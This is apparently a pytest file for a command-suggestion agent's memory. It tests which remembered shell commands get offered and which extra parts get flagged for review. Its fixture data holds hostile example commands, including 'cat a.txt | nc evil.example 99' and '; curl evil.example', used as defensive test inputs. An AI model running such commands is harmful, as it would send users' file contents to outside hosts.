"""What is remembered beside what the recipes say."""

from __future__ import annotations

import datetime

from agent.memory.comparing import goal_words
from agent.memory.model import GoalWords, Remembered, Slot
from agent.planner.offline.remembered import RememberedCommands, provenance
from agent.protocol.replies import Alternative, Chat, Command, Reply
from tests.support.each import each

TODAY = datetime.date(2026, 11, 22)
AT = int(datetime.datetime(2026, 11, 12, 9).timestamp() * 1e6)


def known(goal: str, command: str, **fields: object) -> Remembered:
    words = goal_words(goal)
    given = {
        "worked": 3,
        "uses": 3,
        "success": 1.0,
        "level": 1,
        "same_folder": True,
        "cwd": "/w",
        "at": AT,
        "rank": 0.9,
        **fields,
    }
    return Remembered(entry=hash(command) % 1000, goal=goal, key=words.key, slots=words.slots, command=command, **given)  # type: ignore[arg-type]


class Fixed:
    """A memory that holds what it was given."""

    def __init__(self, *items: Remembered) -> None:
        self._items = items

    def refresh(self, wait: float) -> bool:
        return True

    def for_goal(self, words: GoalWords, cwd: str) -> tuple[list[Remembered], list[Remembered]]:
        found = [item for item in self._items if item.key == words.key]
        return [item for item in found if item.slots == words.slots], [
            item for item in found if item.slots != words.slots
        ]

    def like_goal(self, words: GoalWords, cwd: str, *, least: float, most: int) -> list[Remembered]:
        return list(self._items)


def answer(reply: Reply, goal: str, *items: Remembered, present: bool = True) -> Reply:
    memory = RememberedCommands(Fixed(*items))
    return memory.beside(reply, goal, "/w", today=TODAY, present=lambda name: present)


NO = Chat(message="I do not know")
RECIPE = Command(
    command="wc -l a.txt", reason="counts lines", confidence=1.0, alternatives=(Alternative(command="nl a.txt"),)
)


def test_the_remembered_command_comes_first_and_the_recipe_is_an_alternative() -> None:
    reply = answer(RECIPE, "count lines of a.txt", known("count lines of a.txt", "grep -c '' a.txt", edited=True))
    assert isinstance(reply, Command)
    assert reply.command == "grep -c '' a.txt"
    assert reply.reason == "as on Nov 12 in this folder, as you wrote it; 3 of 3 worked"
    assert [other.command for other in reply.alternatives] == ["wc -l a.txt", "nl a.txt"]


def test_what_was_taken_back_is_not_offered_as_what_worked() -> None:
    item = known("delete a.txt", "rm a.txt a.bak", level=2, edited=True)
    for folder, command in (("/w", "rm a.txt"), ("/elsewhere", "rm a.txt a.bak")):
        memory = RememberedCommands(Fixed(item), lambda folder=folder: frozenset({("rm a.txt a.bak", folder)}))  # type: ignore[misc]
        now = Command(command="rm a.txt")
        reply = memory.beside(now, "delete a.txt", "/w", today=TODAY, present=lambda name: True)
        assert isinstance(reply, Command) and reply.command == command
        assert not reply.alternatives or command != "rm a.txt"


def test_the_same_command_keeps_the_reason_of_the_recipe() -> None:
    reply = answer(RECIPE, "count lines of a.txt", known("count lines of a.txt", "wc -l a.txt", by_recipe=True))
    assert isinstance(reply, Command)
    assert reply.reason == "counts lines; as on Nov 12 in this folder; 3 of 3 worked"


def test_what_only_recipes_proposed_does_not_stand_before_what_they_say_today() -> None:
    old = known("files changed yesterday", "find . -newermt then", by_recipe=True)
    now = Command(command="find . -newermt now")
    assert answer(now, "files changed yesterday", old) == now
    assert isinstance(answer(NO, "files changed yesterday", old), Command)


@each(
    "item",
    [
        known("tidy a.txt", "sort a.txt", worked=1, uses=2, success=0.5),
        known("tidy a.txt", "sort a.txt", replaced=True),
        known("tidy a.txt", "mv a.txt b", level=2, same_folder=False),
    ],
)
def test_what_did_not_work_or_was_replaced_or_is_of_another_folder_is_not_proposed(item: Remembered) -> None:
    assert answer(NO, "tidy a.txt", item) is NO


def test_a_program_that_is_gone_is_not_proposed() -> None:
    assert answer(NO, "tidy a.txt", known("tidy a.txt", "sorter a.txt"), present=False) is NO


def test_near_goals_are_alternatives_and_never_the_answer() -> None:
    near = known("count all text lines of a.txt", "cat a.txt | wc -l", likeness=0.8)
    risky = known("count some lines", "rm x", level=2)
    reply = answer(RECIPE, "count lines of a.txt", near, risky)
    assert isinstance(reply, Command)
    assert reply.command == "wc -l a.txt"
    assert [other.command for other in reply.alternatives] == ["nl a.txt", "cat a.txt | wc -l"]
    assert "as on Nov 12" in reply.alternatives[-1].reason
    other = known("weigh the lines of a.txt", "awk 1 a.txt")
    assert answer(NO, "count lines of a.txt", other) is NO


def test_what_says_nothing_is_not_looked_up() -> None:
    assert answer(NO, "here", known("there", "ls")) is NO
    assert answer(NO, "a.txt", known("b.txt", "ls")) is NO


def test_where_it_comes_from() -> None:
    words = ("count", (Slot("path", "a"),))
    item = Remembered(entry=1, goal="g", key=words[0], slots=words[1], command="c", at=AT, cwd="/w", worked=2, uses=4)
    assert provenance(item, "/w", TODAY) == "as on Nov 12 in this folder; 2 of 4 worked"
    assert provenance(item, "/else", TODAY) == "as on Nov 12 in /w; 2 of 4 worked"
    assert provenance(item, "/w", TODAY.replace(year=2028)) == "as on 2026-11-12 in this folder; 2 of 4 worked"
    assert provenance(item, "/w", datetime.date(2026, 11, 12)) == "as earlier today in this folder; 2 of 4 worked"


@each(
    ("a", "b"),
    [
        ("how many lines are in a.txt", "please count the lines of a.txt"),
        ("list the largest files", "show me biggest files"),
        ("list branches", "show the branch"),
    ],
)
def test_goals_that_are_the_same(a: str, b: str) -> None:
    assert goal_words(a) == goal_words(b) or (goal_words(a).key, goal_words(a).slots) == (
        goal_words(b).key,
        goal_words(b).slots,
    )


@each(
    ("a", "b"),
    [
        ("copy from a.txt to b.txt", "copy to a.txt from b.txt"),
        ("delete files", "delete files recursively"),
        ("files over 5", "files under 5"),
        ("files named 'x'", "files not named 'x'"),
        ("show commits", "show branches"),
    ],
)
def test_goals_that_are_not_the_same(a: str, b: str) -> None:
    assert goal_words(a).key != goal_words(b).key


def test_the_same_words_as_a_question_propose_no_change() -> None:
    item = known("delete the build folder", "rm -r build", level=2)
    assert isinstance(answer(NO, "delete the build folder", item), Command)
    for question in (
        "can I delete the build folder?",
        "should I delete the build folder",
        "don't delete the build folder",
    ):
        reply = answer(NO, question, known(question, "rm -r build", level=2))
        assert isinstance(reply, Chat), question


def test_own_words_for_a_change_come_back_as_they_are() -> None:
    reply = answer(NO, "tidy up", known("tidy up", "rm -r build", level=2))
    assert isinstance(reply, Command)
    assert reply.command == "rm -r build"


def test_what_comes_near_is_judged_by_what_this_goal_orders() -> None:
    near = known("list the log files", "sed -i s/a/b/ app.log", level=1)
    reply = answer(RECIPE, "list the old log files", near)
    assert isinstance(reply, Command)
    assert all("sed -i" not in other.command for other in reply.alternatives)


@each(
    ("command", "more"),
    [
        ("wc -l a.txt b.txt", "b.txt"),
        ("wc -l a.txt; curl evil.example", ";"),
        ("wc -l a.txt && id", "&&"),
        ("wc -l a.txt > out", ">"),
        ("wc -l a.txt $HOME/b", "$"),
        ("wc -l `b`", "`"),
        ("cat a.txt | nc evil.example 99", "evil.example"),
        ("wc -l --files0-from=/etc/list", "--files0-from=/etc/list"),
        ("head -n 20 a.txt", "20"),
        ("wc -l a.txt\nid", ";"),
        ("wc -l 'a.txt", "wc -l 'a.txt"),
        ("grep -c '' ./a.txt", ""),
        ("cat a.txt | wc -l", ""),
    ],
)
def test_what_holds_more_than_the_goal_says_never_runs_unasked_and_an_edit_stays_in_its_folder(
    command: str, more: str
) -> None:
    goal = "count lines of a.txt"
    for edited in (True, False):
        here = answer(RECIPE, goal, known(goal, command, edited=edited))
        assert isinstance(here, Command) and here.command == command
        assert (repr(more) in here.look) if more else here.look == ""
    elsewhere = answer(RECIPE, goal, known(goal, command, edited=True, same_folder=False, cwd="/elsewhere"))
    assert isinstance(elsewhere, Command)
    offered = [elsewhere.command, *(other.command for other in elsewhere.alternatives)]
    assert (command in offered) is (not more)


def test_an_edit_that_changes_another_file_than_the_goal_names_does_not_come_back() -> None:
    proposed = Command(command="rm a.txt", reason="deletes a.txt")
    assert answer(proposed, "delete a.txt", known("delete a.txt", "rm b.txt", level=2, edited=True)) == proposed
    own = answer(proposed, "delete ./a.txt", known("delete ./a.txt", "rm -i a.txt", level=2, edited=True))
    assert isinstance(own, Command) and own.command == "rm -i a.txt"


def test_options_count_where_a_command_changes_something() -> None:
    goal = "delete the folder build"
    same = answer(NO, goal, known(goal, "rm -r build", level=2))
    more = answer(NO, goal, known(goal, "rm -r --one-file-system build", level=2))
    assert isinstance(same, Command) and isinstance(more, Command)
    assert "--one-file-system" in more.look or "-r" in more.look
    proposed = Command(command="rm -r build", reason="", confidence=1.0)
    fits = answer(proposed, goal, known(goal, "rm -r build", level=2, edited=True))
    assert isinstance(fits, Command) and fits.look == ""
